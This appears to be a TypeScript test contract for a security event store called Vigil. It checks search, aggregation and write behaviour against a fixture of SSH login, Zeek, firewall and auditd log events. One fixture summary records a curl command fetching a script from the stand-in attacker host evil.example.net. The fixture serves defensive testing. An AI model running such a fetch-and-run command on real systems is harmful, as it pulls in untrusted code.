import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { VigilAlert } from '../alert/VigilAlert';
import type { Severity, VigilEvent } from '../event/VigilEvent';
import { parseQuery } from '../query/parseQuery';
import type { EventStore } from './EventStore';

/** Options of {@link describeStoreContract}. */
export interface StoreContractOptions {
  /** Timeout of each test and hook, in milliseconds. @default 30000 */
  timeout?: number;
}

/** One query of the contract: the query string and the ids of the corpus events it must find. */
export interface StoreContractQuery {
  /** Query string in Vigil's syntax. */
  query: string;
  /** Ids of {@link storeContractEvents} that match, sorted. */
  ids: string[];
}

function event(
  n: number,
  time: string,
  fields: { hostname: string; category: string; source: string; severity: Severity; summary: string; processid?: string },
  tags: string[],
  details: Record<string, unknown>,
): VigilEvent {
  const utctimestamp = `2024-03-01T${time}:00.000Z`;
  return {
    id: `e${String(n).padStart(2, '0')}`,
    utctimestamp,
    receivedtimestamp: utctimestamp,
    timestamp: utctimestamp,
    hostname: fields.hostname,
    processname: typeof details['program'] === 'string' ? details['program'] : fields.source,
    processid: fields.processid ?? '',
    severity: fields.severity,
    summary: fields.summary,
    category: fields.category,
    source: fields.source,
    tags,
    details,
  };
}

const auth = { category: 'authentication', source: 'sshd' };

/**
 * The fixed corpus every store is checked against: sshd logins, syslog, Zeek intel and notices, a firewall
 * drop, auditd and a non-ASCII summary. Shapes and several texts follow MozDef's demo events
 * (mozilla/MozDef scripts/demo/sample_events, MPL-2.0; see /work/shared/samples).
 */
export const storeContractEvents: readonly VigilEvent[] = [
  event(1, '00:05', { ...auth, hostname: 'web1.example.com', severity: 'NOTICE', processid: '2201', summary: 'Failed password for invalid user admin from 10.0.0.5 port 52311 ssh2' }, ['ssh', 'auth'], { username: 'admin', sourceipaddress: '10.0.0.5', sourceport: 52311, success: false, program: 'sshd' }),
  event(2, '00:20', { ...auth, hostname: 'web1.example.com', severity: 'NOTICE', processid: '2202', summary: 'Failed password for root from 10.0.0.5 port 52312 ssh2' }, ['ssh'], { username: 'root', sourceipaddress: '10.0.0.5', sourceport: 52312, success: false }),
  event(3, '00:40', { ...auth, hostname: 'web2.example.com', severity: 'INFO', processid: '2303', summary: 'Accepted publickey for alice from 192.168.1.20 port 40022 ssh2' }, ['ssh', 'auth'], { username: 'alice', sourceipaddress: '192.168.1.20', sourceport: 40022, success: true }),
  event(4, '01:10', { ...auth, hostname: 'db1.example.com', severity: 'INFO', processid: '2404', summary: 'Accepted password for Bob from 192.168.1.21 port 40100 ssh2' }, [], { username: 'Bob', sourceipaddress: '192.168.1.21', sourceport: 40100, success: true }),
  event(5, '01:30', { hostname: 'DB2.Example.com', category: 'syslog', source: 'systemslogs', severity: 'INFO', processid: '0', summary: 'Did not receive identification string from 10.0.0.1' }, ['example'], { program: 'sshd', processid: '4846', hostname: 'proxy' }),
  event(6, '02:15', { hostname: 'proxy.example.com', category: 'bro', source: 'bro_intel', severity: 'WARNING', summary: 'Zeek intel hit: evil.example.net seen in DNS::IN_REQUEST' }, ['bro', 'intel'], { sourceipaddress: '10.0.0.9', seenindicator: 'evil.example.net', seenwhere: 'DNS::IN_REQUEST', indicator_type: 'Intel::DOMAIN' }),
  event(7, '02:45', { hostname: 'proxy.example.com', category: 'bro', source: 'bro_notice', severity: 'WARNING', summary: 'Scan::Port_Scan 10.0.0.9 scanned at least 15 unique ports of host 10.0.0.5 in 0m1s' }, ['bro'], { sourceipaddress: '10.0.0.9', destinationipaddress: '10.0.0.5', note: 'Scan::Port_Scan', ports: [22, 80, 443] }),
  event(8, '03:05', { hostname: 'fw1.example.com', category: 'firewall', source: 'iptables', severity: 'INFO', summary: 'DROP IN=eth0 SRC=203.0.113.7 DST=10.0.0.5 PROTO=TCP DPT=23' }, ['firewall'], { sourceipaddress: '203.0.113.7', destinationport: 23, action: 'DROP' }),
  event(9, '03:30', { ...auth, hostname: 'web1.example.com', severity: 'CRITICAL', processid: '2209', summary: 'Failed password for invalid user oracle from 203.0.113.7 port 6000 ssh2' }, ['ssh', 'auth', 'bruteforce'], { username: 'oracle', sourceipaddress: '203.0.113.7', sourceport: 6000, success: false }),
  event(10, '04:00', { hostname: 'web2.example.com', category: 'audit', source: 'auditd', severity: 'INFO', processid: '1201', summary: 'execve by user alice: /usr/bin/curl http://evil.example.net/x.sh' }, ['auditd'], { username: 'alice', program: 'curl', path: '/usr/bin/curl' }),
  event(11, '04:20', { hostname: 'mail.example.com', category: 'application', source: 'postfix', severity: 'ERROR', processid: '777', summary: 'Résumé of queue: 5 messages deferred (ÉTÉ)' }, [], { processid: '777', queue: 5 }),
  event(12, '05:00', { ...auth, hostname: 'web3.example.com', severity: 'NOTICE', processid: '2212', summary: 'Failed password for admin from 10.0.0.6 port 52400 ssh2' }, ['SSH'], { username: 'ADMIN', sourceipaddress: '10.0.0.6', sourceport: 52400, success: false, groups: ['wheel', 'staff'] }),
];

const byId = (id: string): VigilEvent => storeContractEvents.find((e) => e.id === id) as VigilEvent;

/** Alerts of the contract. */
export const storeContractAlerts: readonly VigilAlert[] = [
  {
    id: 'a1',
    utctimestamp: '2024-03-01T03:31:00.000Z',
    severity: 'WARNING',
    summary: 'SSH brute force from 203.0.113.7',
    category: 'bruteforce',
    tags: ['ssh', 'bruteforce'],
    events: [{ id: 'e09', event: byId('e09') }],
    count: 5,
    rule: { id: 'ssh-bruteforce', name: 'SSH brute force' },
    details: { sourceipaddress: '203.0.113.7' },
  },
  {
    id: 'a2',
    utctimestamp: '2024-03-01T02:16:00.000Z',
    severity: 'CRITICAL',
    summary: 'Zeek intel hit on evil.example.net',
    category: 'intel',
    tags: ['bro'],
    events: [{ id: 'e06', event: byId('e06') }],
    count: 1,
    url: 'https://runbooks.example.com/intel',
    rule: { id: 'bro-intel', name: 'Zeek intel' },
  },
  {
    id: 'a3',
    utctimestamp: '2024-03-01T05:01:00.000Z',
    severity: 'NOTICE',
    summary: 'Repeated failed logins for admin',
    category: 'authentication',
    tags: [],
    events: [{ id: 'e12', event: byId('e12') }],
    count: 2,
    rule: { id: 'failed-logins', name: 'Failed logins' },
    details: { username: 'ADMIN' },
  },
];

const all = storeContractEvents.map((e) => e.id);
const ids = (...numbers: number[]): string[] => numbers.map((n) => `e${String(n).padStart(2, '0')}`);

/** Every query form of the language with the corpus events it must find (the semantics of docs/search.md). */
export const storeContractQueries: readonly StoreContractQuery[] = [
  { query: '*:*', ids: all },
  { query: '', ids: all },
  // full text over summary: words, case, phrases, word wildcards, non-ASCII
  { query: 'failed', ids: ids(1, 2, 9, 12) },
  { query: 'FAILED', ids: ids(1, 2, 9, 12) },
  { query: 'password', ids: ids(1, 2, 4, 9, 12) },
  { query: 'summary:accepted', ids: ids(3, 4) },
  { query: '"invalid user"', ids: ids(1, 9) },
  { query: '"user invalid"', ids: [] },
  { query: 'summary:"port 52311"', ids: ids(1) },
  { query: '"10.0.0.5"', ids: ids(1, 2, 7, 8) },
  { query: 'evil.example.net', ids: ids(6, 10) },
  { query: 'evil*', ids: ids(6, 10) },
  { query: 'q?eue', ids: ids(11) },
  { query: '*ssh*', ids: ids(1, 2, 3, 4, 9, 12) },
  { query: 'ré*', ids: ids(11) },
  { query: 'résumé', ids: ids(11) },
  { query: 'été', ids: ids(11) },
  { query: 'nosuchword', ids: [] },
  // keyword fields: exact value, ASCII case-insensitive; id exact
  { query: 'hostname:web1.example.com', ids: ids(1, 2, 9) },
  { query: 'hostname:WEB1.EXAMPLE.COM', ids: ids(1, 2, 9) },
  { query: 'hostname:web1', ids: [] },
  { query: 'hostname:"web1.example.com"', ids: ids(1, 2, 9) },
  { query: 'hostname:web*', ids: ids(1, 2, 3, 9, 10, 12) },
  { query: 'hostname:db?.example.com', ids: ids(4, 5) },
  { query: 'source:bro_*', ids: ids(6, 7) },
  { query: 'severity:(WARNING OR CRITICAL)', ids: ids(6, 7, 9) },
  { query: 'id:e03', ids: ids(3) },
  { query: 'id:E03', ids: [] },
  // bare fields resolve into details; dotted paths; escaped characters
  { query: 'username:admin', ids: ids(1, 12) },
  { query: 'details.username:alice', ids: ids(3, 10) },
  { query: 'username:(alice OR bob)', ids: ids(3, 4, 10) },
  { query: 'details.program:sshd', ids: ids(1, 5) },
  { query: 'seenwhere:DNS\\:\\:IN_REQUEST', ids: ids(6) },
  { query: 'seenwhere:"DNS::IN_REQUEST"', ids: ids(6) },
  { query: 'note:Scan::Port_Scan', ids: ids(7) },
  { query: 'path:/usr/bin/curl', ids: ids(10) },
  // IP addresses
  { query: 'sourceipaddress:10.0.0.5', ids: ids(1, 2) },
  { query: 'sourceipaddress:10.0.0.*', ids: ids(1, 2, 6, 7, 12) },
  // numbers, booleans, ranges
  { query: 'sourceport:52311', ids: ids(1) },
  { query: 'sourceport:[40000 TO 52311]', ids: ids(1, 3, 4) },
  { query: 'sourceport:{40022 TO 52312}', ids: ids(1, 4) },
  { query: 'sourceport:[52000 TO *]', ids: ids(1, 2, 12) },
  { query: 'sourceport:>=52312', ids: ids(2, 12) },
  { query: 'sourceport:<10000', ids: ids(9) },
  { query: 'details.processid:>1000', ids: ids(5) },
  { query: 'processid:[1000 TO 2300]', ids: ids(1, 2, 9, 10, 12) },
  { query: 'hostname:[db TO mail]', ids: ids(4, 8) },
  { query: 'utctimestamp:[2024-03-01T02:00:00.000Z TO 2024-03-01T03:05:00.000Z]', ids: ids(6, 7, 8) },
  { query: 'utctimestamp:{2024-03-01T02:15:00.000Z TO 2024-03-01T03:05:00.000Z}', ids: ids(7) },
  { query: 'success:false', ids: ids(1, 2, 9, 12) },
  { query: 'success:true', ids: ids(3, 4) },
  { query: 'queue:5', ids: ids(11) },
  { query: 'queue:>4', ids: ids(11) },
  { query: 'destinationport:23 OR destinationport:>100', ids: ids(8) },
  // arrays: any element
  { query: 'tags:ssh', ids: ids(1, 2, 3, 9, 12) },
  { query: 'tags:brute*', ids: ids(9) },
  { query: 'groups:staff', ids: ids(12) },
  { query: 'ports:443', ids: ids(7) },
  { query: 'ports:[400 TO 500]', ids: ids(7) },
  // existence
  { query: '_exists_:username', ids: ids(1, 2, 3, 4, 9, 10, 12) },
  { query: 'NOT _exists_:details.sourceipaddress', ids: ids(5, 10, 11) },
  { query: '_exists_:tags', ids: ids(1, 2, 3, 5, 6, 7, 8, 9, 10, 12) },
  { query: 'queue:*', ids: ids(11) },
  // boolean structure
  { query: 'category:authentication AND NOT success:false', ids: ids(3, 4) },
  { query: 'category:authentication -success:false', ids: ids(3, 4) },
  { query: '!failed && category:authentication', ids: ids(3, 4) },
  { query: 'failed OR accepted', ids: ids(1, 2, 3, 4, 9, 12) },
  { query: 'failed || accepted', ids: ids(1, 2, 3, 4, 9, 12) },
  { query: '(failed OR accepted) AND hostname:web*', ids: ids(1, 2, 3, 9, 12) },
  { query: 'failed AND hostname:web1.example.com OR category:bro', ids: ids(1, 2, 6, 7, 9) },
  { query: '-category:authentication -category:bro', ids: ids(5, 8, 10, 11) },
  { query: '+category:bro -intel', ids: ids(7) },
  { query: 'hostname:proxy.example.com AND ports:22', ids: ids(7) },
  { query: 'NOT nosuchfield:x', ids: all },
];

/** Alert queries of the contract (fields resolve against alert fields) with the alert ids they must find. */
export const storeContractAlertQueries: readonly StoreContractQuery[] = [
  { query: 'rule.name:"SSH brute force"', ids: ['a1'] },
  { query: 'brute', ids: ['a1'] },
  { query: 'severity:CRITICAL', ids: ['a2'] },
  { query: 'count:>1', ids: ['a1', 'a3'] },
  { query: 'username:admin', ids: ['a3'] },
  { query: '_exists_:url', ids: ['a2'] },
  { query: 'tags:bro', ids: ['a2'] },
  { query: 'rule.id:*-logins OR category:intel', ids: ['a2', 'a3'] },
];

const sorted = (values: readonly { id: string }[]): string[] => values.map((v) => v.id).sort();

/**
 * The suite every {@link EventStore} must pass. `makeStore` returns a new, empty, not yet started store each
 * time. Writes are awaited and followed by `flush()` before searching: after `flush()` resolves, everything
 * written must be visible. Expectations follow the query semantics of docs/search.md, not any one store.
 */
export function describeStoreContract(
  name: string,
  makeStore: () => Promise<EventStore> | EventStore,
  options: StoreContractOptions = {},
): void {
  const timeout = options.timeout ?? 30_000;

  async function fresh(): Promise<EventStore> {
    const store = await makeStore();
    await store.start();
    return store;
  }

  describe(`EventStore contract: ${name}`, () => {
    describe('over the fixed corpus', () => {
      let store: EventStore;

      beforeAll(async () => {
        store = await fresh();
        const written = await store.writeEvents(storeContractEvents);
        expect(written).toEqual({ written: storeContractEvents.length, duplicates: 0, failed: [] });
        const alerts = await store.writeAlerts(storeContractAlerts);
        expect(alerts).toEqual({ written: storeContractAlerts.length, duplicates: 0, failed: [] });
        await store.flush();
      }, timeout);

      afterAll(async () => {
        await store?.shutdown();
      }, timeout);

      it('returns stored events exactly as written', async () => {
        for (const original of storeContractEvents) {
          const result = await store.search({ query: `id:${original.id}` });
          expect(result.total).toBe(1);
          expect(result.hits[0]).toEqual(original);
        }
      }, timeout);

      it.each(storeContractQueries.map((q) => [q.query, q.ids] as const))(
        'query %j finds exactly the expected events',
        async (query, expected) => {
          const result = await store.search({ query, size: 100 });
          expect(sorted(result.hits)).toEqual(expected);
          expect(result.total).toBe(expected.length);
        },
        timeout,
      );

      it('accepts parsed queries as well as strings', async () => {
        const parsed = parseQuery('hostname:web* AND failed');
        if (!parsed.ok) throw new Error(parsed.reason);
        const result = await store.search({ query: parsed.query });
        expect(sorted(result.hits)).toEqual(ids(1, 2, 9, 12));
      }, timeout);

      it('rejects a malformed query string with code QUERY_INVALID', async () => {
        await expect(store.search({ query: 'hostname:(a OR' })).rejects.toMatchObject({ code: 'QUERY_INVALID' });
        await expect(store.search({ query: 'a', from: 'yesterday' })).rejects.toHaveProperty('code');
      }, timeout);

      it('limits to a time range, inclusive at both ends, ISO or relative', async () => {
        const range = await store.search({ from: '2024-03-01T01:00:00.000Z', to: '2024-03-01T03:05:00.000Z' });
        expect(sorted(range.hits)).toEqual(ids(4, 5, 6, 7, 8));
        const combined = await store.search({ query: 'category:bro', from: '2024-03-01T02:30:00Z' });
        expect(sorted(combined.hits)).toEqual(ids(7));
        expect((await store.search({ from: 'now-1h' })).total).toBe(0);
        expect((await store.search({ to: 'now' })).total).toBe(storeContractEvents.length);
        expect((await store.search({ to: '2024-03-01T00:20:00.000Z' })).total).toBe(2);
      }, timeout);

      it('sorts newest first by default, oldest first on request, and pages with size and offset', async () => {
        const desc = await store.search({});
        expect(desc.hits.map((h) => h.id)).toEqual([...all].reverse());
        const asc = await store.search({ sort: 'asc' });
        expect(asc.hits.map((h) => h.id)).toEqual(all);
        const page = await store.search({ size: 3, offset: 2 });
        expect(page.hits.map((h) => h.id)).toEqual(ids(10, 9, 8));
        expect(page.total).toBe(storeContractEvents.length);
        const ascPage = await store.search({ query: 'failed', sort: 'asc', size: 2, offset: 1 });
        expect(ascPage.hits.map((h) => h.id)).toEqual(ids(2, 9));
        expect(ascPage.total).toBe(4);
        const none = await store.search({ query: 'failed', size: 0 });
        expect(none).toEqual({ total: 4, hits: [] });
      }, timeout);

      it('counts top terms of top-level fields, details paths, arrays, numbers and booleans', async () => {
        expect(await store.aggregate({ type: 'terms', field: 'hostname', size: 3 })).toEqual({
          total: 12,
          buckets: [
            { key: 'web1.example.com', count: 3 },
            { key: 'proxy.example.com', count: 2 },
            { key: 'web2.example.com', count: 2 },
          ],
        });
        expect(await store.aggregate({ type: 'terms', field: 'username', size: 3 })).toEqual({
          total: 12,
          buckets: [
            { key: 'alice', count: 2 },
            { key: 'ADMIN', count: 1 },
            { key: 'Bob', count: 1 },
          ],
        });
        expect(await store.aggregate({ type: 'terms', field: 'tags', size: 3 })).toEqual({
          total: 12,
          buckets: [
            { key: 'ssh', count: 4 },
            { key: 'auth', count: 3 },
            { key: 'bro', count: 2 },
          ],
        });
        expect(
          await store.aggregate({ type: 'terms', field: 'details.success', query: 'category:authentication' }),
        ).toEqual({
          total: 6,
          buckets: [
            { key: 'false', count: 4 },
            { key: 'true', count: 2 },
          ],
        });
        expect(await store.aggregate({ type: 'terms', field: 'sourceport', size: 2, query: 'sourceport:>=52311' })).toEqual({
          total: 3,
          buckets: [
            { key: '52311', count: 1 },
            { key: '52312', count: 1 },
          ],
        });
        const tenDefault = await store.aggregate({ type: 'terms', field: 'severity', from: '2024-03-01T04:00:00.000Z' });
        expect(tenDefault).toEqual({
          total: 3,
          buckets: [
            { key: 'ERROR', count: 1 },
            { key: 'INFO', count: 1 },
            { key: 'NOTICE', count: 1 },
          ],
        });
      }, timeout);

      it('counts per time bucket, oldest first, leaving out empty buckets', async () => {
        const hourly = await store.aggregate({ type: 'date_histogram', interval: '1h' });
        expect(hourly).toEqual({
          total: 12,
          buckets: [
            { key: '2024-03-01T00:00:00.000Z', count: 3 },
            { key: '2024-03-01T01:00:00.000Z', count: 2 },
            { key: '2024-03-01T02:00:00.000Z', count: 2 },
            { key: '2024-03-01T03:00:00.000Z', count: 2 },
            { key: '2024-03-01T04:00:00.000Z', count: 2 },
            { key: '2024-03-01T05:00:00.000Z', count: 1 },
          ],
        });
        expect(await store.aggregate({ type: 'date_histogram', interval: '1h', query: 'failed' })).toEqual({
          total: 4,
          buckets: [
            { key: '2024-03-01T00:00:00.000Z', count: 2 },
            { key: '2024-03-01T03:00:00.000Z', count: 1 },
            { key: '2024-03-01T05:00:00.000Z', count: 1 },
          ],
        });
        expect(
          await store.aggregate({ type: 'date_histogram', interval: '5m', from: '2024-03-01T00:00:00Z', to: '2024-03-01T00:30:00Z' }),
        ).toEqual({
          total: 2,
          buckets: [
            { key: '2024-03-01T00:05:00.000Z', count: 1 },
            { key: '2024-03-01T00:20:00.000Z', count: 1 },
          ],
        });
        expect((await store.aggregate({ type: 'date_histogram', interval: '1d' })).buckets).toEqual([
          { key: '2024-03-01T00:00:00.000Z', count: 12 },
        ]);
        await expect(store.aggregate({ type: 'date_histogram', interval: 'hourly' })).rejects.toHaveProperty('code');
      }, timeout);

      it('searches alerts with the same language over alert fields', async () => {
        const all = await store.searchAlerts({});
        expect(all.hits.map((a) => a.id)).toEqual(['a3', 'a1', 'a2']);
        expect(all.hits[1]).toEqual(storeContractAlerts[0]);
        for (const { query, ids: expected } of storeContractAlertQueries) {
          const result = await store.searchAlerts({ query });
          expect(sorted(result.hits), query).toEqual(expected);
          expect(result.total, query).toBe(expected.length);
        }
        const recent = await store.searchAlerts({ from: '2024-03-01T03:00:00.000Z', sort: 'asc' });
        expect(recent.hits.map((a) => a.id)).toEqual(['a1', 'a3']);
      }, timeout);
    });

    describe('writes and lifecycle', () => {
      it('makes writes idempotent by id and counts duplicates, within and across batches', async () => {
        const store = await fresh();
        try {
          const [first, second] = storeContractEvents as [VigilEvent, VigilEvent];
          expect(await store.writeEvents([first, second, first])).toEqual({ written: 2, duplicates: 1, failed: [] });
          expect(await store.writeEvents([second, { ...first, summary: 'changed' }])).toEqual({
            written: 0,
            duplicates: 2,
            failed: [],
          });
          await store.flush();
          const result = await store.search({ query: `id:${first.id}` });
          expect(result.hits).toEqual([first]);
          expect((await store.search({})).total).toBe(2);
          expect(await store.writeAlerts([storeContractAlerts[0] as VigilAlert, storeContractAlerts[0] as VigilAlert])).toEqual({
            written: 1,
            duplicates: 1,
            failed: [],
          });
        } finally {
          await store.shutdown();
        }
      }, timeout);

      it('refuses items without an id or a timestamp, by index, and writes the rest', async () => {
        const store = await fresh();
        try {
          const good = storeContractEvents[0] as VigilEvent;
          const noId = { ...good, id: '' };
          const noTime = { ...good, id: 'no-time', utctimestamp: undefined } as unknown as VigilEvent;
          const result = await store.writeEvents([noId, good, noTime]);
          expect(result.written).toBe(1);
          expect(result.duplicates).toBe(0);
          expect(result.failed.map((f) => [f.index, f.id])).toEqual([
            [0, ''],
            [2, 'no-time'],
          ]);
          expect(result.failed.every((f) => f.reason.length > 0)).toBe(true);
        } finally {
          await store.shutdown();
        }
      }, timeout);

      it('resolves concurrent writes each with its own counts', async () => {
        const store = await fresh();
        try {
          const a = storeContractEvents.slice(0, 6);
          const b = storeContractEvents.slice(6);
          const results = await Promise.all([store.writeEvents(a), store.writeEvents(b), store.writeEvents(a)]);
          expect(results.map((r) => r.written + r.duplicates)).toEqual([6, 6, 6]);
          expect(results.reduce((sum, r) => sum + r.written, 0)).toBe(12);
          expect(results[1]).toEqual({ written: 6, duplicates: 0, failed: [] });
          await store.flush();
          expect((await store.search({})).total).toBe(12);
        } finally {
          await store.shutdown();
        }
      }, timeout);

      it('adds tags to stored events without duplicating them, and finds events by them', async () => {
        const store = await fresh();
        try {
          await store.writeEvents(storeContractEvents);
          await store.tagEvents(['e01', 'e02', 'nope'], ['alert:ssh-bruteforce', 'ssh']);
          await store.tagEvents(['e01'], ['alert:ssh-bruteforce']);
          await store.flush();
          const tagged = await store.search({ query: 'tags:"alert:ssh-bruteforce"', sort: 'asc' });
          expect(tagged.hits.map((h) => [h.id, h.tags])).toEqual([
            ['e01', ['ssh', 'auth', 'alert:ssh-bruteforce']],
            ['e02', ['ssh', 'alert:ssh-bruteforce']],
          ]);
          expect((await store.search({ query: 'id:e03' })).hits[0]?.tags).toEqual(['ssh', 'auth']);
        } finally {
          await store.shutdown();
        }
      }, timeout);

      it('counts a document once per term even when an array repeats the value', async () => {
        const store = await fresh();
        try {
          const [a, b] = storeContractEvents as [VigilEvent, VigilEvent];
          await store.writeEvents([
            { ...a, tags: ['x', 'x', 'y'], details: { ...a.details, ports: [22, 22, 80] } },
            { ...b, tags: ['x'], details: { ...b.details, ports: [22] } },
          ]);
          await store.flush();
          expect(await store.aggregate({ type: 'terms', field: 'tags' })).toEqual({
            total: 2,
            buckets: [
              { key: 'x', count: 2 },
              { key: 'y', count: 1 },
            ],
          });
          expect((await store.aggregate({ type: 'terms', field: 'ports' })).buckets).toEqual([
            { key: '22', count: 2 },
            { key: '80', count: 1 },
          ]);
        } finally {
          await store.shutdown();
        }
      }, timeout);

      it('flushes and shuts down twice without error, and refuses writes afterwards', async () => {
        const store = await fresh();
        const pending = store.writeEvents(storeContractEvents);
        await store.flush();
        await store.flush();
        const shutdowns = [store.shutdown(), store.shutdown()];
        await Promise.all(shutdowns);
        await store.shutdown();
        expect((await pending).written).toBe(storeContractEvents.length);
        await expect(store.writeEvents(storeContractEvents)).rejects.toBeInstanceOf(Error);
      }, timeout);
    });
  });
}
